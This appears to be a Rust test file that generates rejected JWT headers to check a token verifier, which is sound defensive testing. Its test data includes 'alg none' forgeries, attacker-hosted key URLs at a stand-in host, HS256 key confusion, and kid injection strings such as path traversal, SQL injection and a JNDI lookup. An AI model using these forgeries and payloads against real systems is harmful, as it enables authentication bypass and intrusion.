//! Signed by the right key, or by one that the head brings along, and the head is wrong.

use super::{
    Case,
    rig::{ID, Rig, Signer, claims, encode, seal, without},
};
use serde_json::{Value, json};

pub fn cases(rig: &Rig) -> Vec<Case> {
    let mut cases = Vec::new();
    for name in ["alg", "typ", "kid"] {
        cases.push(Case::invalid(format!("head without {name}"), rig.with_head(&without(rig.head(), name))));
        for odd in [Value::Null, json!(""), json!(7), json!({}), json!([rig.head()[name]])] {
            cases.push(Case::invalid(format!("head {name} {odd}"), rig.with_head(&with(rig, name, odd))));
        }
    }
    for (name, value) in types().into_iter().chain(keys()).chain(algorithms()).chain(not_done()) {
        let label = value.to_string().chars().take(60).collect::<String>();
        cases.push(Case::invalid(format!("head {name} {label}"), rig.with_head(&with(rig, name, value))));
    }
    cases.extend(nones(rig));
    cases.extend(own_keys(rig));
    cases.extend(
        texts(rig)
            .into_iter()
            .map(|(what, text)| Case::invalid(format!("head: {what}"), rig.signed(text, claims().to_string()))),
    );
    cases
}

fn with(rig: &Rig, name: &str, value: Value) -> Value {
    let mut head = rig.head();
    head[name] = value;
    head
}

fn types() -> Vec<(&'static str, Value)> {
    let types = [
        "JWT",
        "jwt",
        "application/jwt",
        "application/application/at+jwt",
        "text/at+jwt",
        "application/",
        "/at+jwt",
        "application/at+jwt;v=1",
        "application /at+jwt",
        "application/ at+jwt",
        "at+jwt;v=1",
        "at+jwt ",
        " at+jwt",
        "at-jwt",
        "dpop+jwt",
        "logout+jwt",
        "id_token+jwt",
        "JOSE",
        "at+jwt\0",
    ];
    types.into_iter().map(|typ| ("typ", json!(typ))).collect()
}

fn keys() -> Vec<(&'static str, Value)> {
    let ids = [
        "k2",
        "K1",
        " k1",
        "k1 ",
        "k1\0",
        "k1\n",
        "../../../../dev/null",
        "/etc/passwd",
        "k1' OR '1'='1",
        "k1; DROP TABLE keys",
        "${jndi:ldap://attacker.test}",
        "https://attacker.test/key",
        "к1",
        "k1,k2",
        "*",
        "0",
        "null",
    ];
    ids.into_iter().map(|kid| ("kid", json!(kid))).chain([("kid", json!("k".repeat(2_000)))]).collect()
}

fn algorithms() -> Vec<(&'static str, Value)> {
    let names = [
        "HS256", "HS384", "HS512", "ES256", "ES384", "ES512", "ES256K", "RS256", "RS384", "RS512", "PS256", "PS384",
        "PS512", "Ed25519", "Ed448", "EdDSA ", " EdDSA", "eddsa", "EDDSA", "EdDSA\0", "none", "RSA-OAEP", "dir",
    ];
    names.into_iter().map(|alg| ("alg", json!(alg))).collect()
}

fn not_done() -> Vec<(&'static str, Value)> {
    vec![
        ("crit", json!(["exp"])),
        ("crit", json!(["b64"])),
        ("crit", json!([])),
        ("crit", Value::Null),
        ("b64", json!(false)),
        ("b64", json!(true)),
        ("zip", json!("DEF")),
        ("enc", json!("A128GCM")),
        ("cty", json!("JWT")),
        ("cty", json!("application/at+jwt")),
    ]
}

/// Every spelling of `none`, without a signature and with one.
fn nones(rig: &Rig) -> Vec<Case> {
    let mut cases = Vec::new();
    for spelling in 0..16 {
        let letters = "none".char_indices();
        let name: String =
            letters.map(|(at, c)| if spelling >> at & 1 == 1 { c.to_ascii_uppercase() } else { c }).collect();
        let head = with(rig, "alg", json!(name)).to_string();
        let bare = format!("{}.{}", encode(&head), encode(claims().to_string()));
        cases.push(Case::invalid(format!("alg {name}, unsigned"), format!("{bare}.")));
        cases.push(Case::invalid(format!("alg {name}, two segments"), bare));
        cases.push(Case::invalid(format!("alg {name}, signed"), rig.signed(&head, claims().to_string())));
    }
    cases
}

/// The head says where the key is, and the key is the attacker's.
fn own_keys(rig: &Rig) -> Vec<Case> {
    let jwk = |kid: &str| rig.stranger.jwk(kid);
    let certificate = encode(rig.stranger.der());
    let mut cases = Vec::new();
    for kid in ["k1", "attacker"] {
        for (name, value) in [
            ("jku", json!("https://attacker.test/keys")),
            ("jku", json!("http://127.0.0.1:1/keys")),
            ("x5u", json!("https://attacker.test/chain.pem")),
            ("jwk", jwk(kid)),
            ("x5c", json!([certificate])),
            ("x5t", json!(encode([0; 20]))),
            ("x5t#S256", json!(encode([0; 32]))),
        ] {
            let mut head = with(rig, name, value.clone());
            head["kid"] = json!(kid);
            let token = rig.by(&rig.stranger, head.to_string(), claims().to_string());
            cases.push(Case::invalid(format!("{name} {value} with the attacker's key {kid}"), token));
        }
    }
    let symmetric = json!({"kty": "oct", "kid": "k1", "k": encode("secret")});
    for (name, key) in [("jwk", symmetric.clone()), ("jku", json!("data:application/json,{}"))] {
        let mut head = with(rig, name, key);
        head["alg"] = json!("HS256");
        let token = seal(head.to_string(), claims().to_string(), |text| super::rig::hs256(b"secret", text));
        cases.push(Case::invalid(format!("HS256 with a key in {name}"), token));
    }
    let nested = rig.good();
    cases.push(Case::invalid("a token in a token", rig.signed(rig.head().to_string(), nested)));
    let other = Signer::new(rig.algorithm);
    let other = rig.by(&other, rig.head().to_string(), claims().to_string());
    cases.push(Case::invalid("another key under the same id", other));
    cases
}

/// Heads that are no JSON object, or can be read in two ways.
fn texts(rig: &Rig) -> Vec<(&'static str, String)> {
    let good = rig.head().to_string();
    let before = |text: &str| format!("{{{text},{}", &good[1..]);
    let behind = |text: &str| format!("{},{text}}}", &good[..good.len() - 1]);
    vec![
        ("alg twice, none first", before("\"alg\":\"none\"")),
        ("alg twice, none last", behind("\"alg\":\"none\"")),
        ("alg twice, the same", before("\"alg\":\"EdDSA\"")),
        ("alg twice, once escaped", behind("\"\\u0061lg\":\"none\"")),
        ("typ twice", before("\"typ\":\"JWT\"")),
        ("kid twice", before("\"kid\":\"k2\"")),
        ("kid twice, the other last", behind("\"kid\":\"k2\"")),
        ("any name twice", behind("\"x\":1,\"x\":1")),
        ("trailing data", format!("{good}x")),
        ("two objects", format!("{good}{good}")),
        ("a list of it", format!("[{good}]")),
        ("its text", json!(good).to_string()),
        ("cut off", good[..good.len() - 1].to_owned()),
        ("a byte order mark", format!("\u{feff}{good}")),
        ("NUL behind", format!("{good}\0")),
        ("single quotes", good.replace('"', "'")),
        ("nothing", String::new()),
        ("an empty object", "{}".to_owned()),
        ("the claims", format!("{{\"sub\":\"device:{ID}\"}}")),
        ("deep", format!("{}{}", "[".repeat(1_000), "]".repeat(1_000))),
    ]
}
